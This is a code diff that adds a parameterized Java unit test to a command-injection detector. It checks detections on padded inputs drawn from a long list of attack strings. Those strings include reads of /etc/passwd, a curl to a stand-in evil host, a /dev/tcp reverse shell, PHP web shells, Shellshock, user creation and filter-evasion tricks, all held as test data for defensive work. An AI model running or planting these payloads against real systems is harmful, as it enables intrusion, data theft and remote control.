@@ -97,6 +97,36 @@ class CmdiDetectorTest {
     assertRule("cmdi.code-exec", value);
   }
 
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "; id", "a;id", "x|id|", "x || whoami", "1 && uname -a", "file & ping -c 3 10.0.0.1", "a;cat /etc/passwd",
+    "q | type C:\\Windows\\win.ini", "';sleep 10;'", "x && curl http://evil.example/x.sh", "x| dir C:\\",
+    "x && net user eve P4ss /add", "x;python3 -c 'print(1)'", "x| bash -i", "x | sh", "x; rm -rf /tmp/x",
+    "x;echo 'owned' > /var/www/x.html", "x | powershell -enc SQBFAFgA", "x;ps aux", "x; env", "\\nid\\n",
+    "x; echo `id`", "`id`", "$(whoami)", "name=`uname -a`", "x <(id)", "diff >(ls) y", "x ^whoami",
+    "ping -c 1 `whoami`.evil.example", ";`echo id`", "x`echo hi`", "$(echo hi)", ";/usr/bin/id", "|/bin/ls -al",
+    "a|usr/bin/id", "x; exec /bin/sh -i", "x -e /bin/bash", ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami",
+    "& w^h^o^a^m^i", ";cat${IFS}/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
+    ";$'\\x63\\x61\\x74' /etc/passwd", "CMD=$'id';$CMD", "<?php system($_GET['c']); ?>", "<?= `id` ?>",
+    "system('cat /etc/passwd')", "exec(\"whoami\")", "x;phpinfo();", "{${system('id')}}", "${@print(md5(1))}",
+    ";{$_GET[\"cmd\"]}", "os.system('id')", "require('child_process')", "eval(base64_decode('aWQ='))",
+    "<!--#exec cmd=\"ls\"-->", "() { :;}; echo x", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "x<id",
+    "x;cat -n x", "x;sleep 5", "x;echo HELLO", "x;ls", "x;ls ~", "x;curl a.b", "x; cat<x", "x;kill -9 1"
+  })
+  void aLongValueIsJudgedAsEveryTriggerWereRead(String attack) {
+    // A long value stops only at the trigger characters, and reads further only the kinds of command, that its
+    // character set allows: the verdict is the one of a scan that stops everywhere and reads every command.
+    String[] fillers = {"z", "lorem ipsum ", "ab sh(", "<div class=x>", ";cat 'x", "a(b)c;d|e&sh'f", "\\\\n"};
+    for (String filler : fillers) {
+      String padding = filler.repeat(5000 / filler.length() + 1);
+      for (String value : new String[] {padding + " " + attack, attack + " " + padding, attack + "\n" + padding}) {
+        Detection everywhere = CmdiScanner.scan(value);
+        Detection d = detect(value);
+        assertEquals(everywhere == null ? null : everywhere.ruleId(), d == null ? null : d.ruleId(), value);
+      }
+    }
+  }
+
   @Test
   void serverSideIncludesShellshockAndReverseShellsAreDetected() {
     assertRule("cmdi.ssi", "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->");
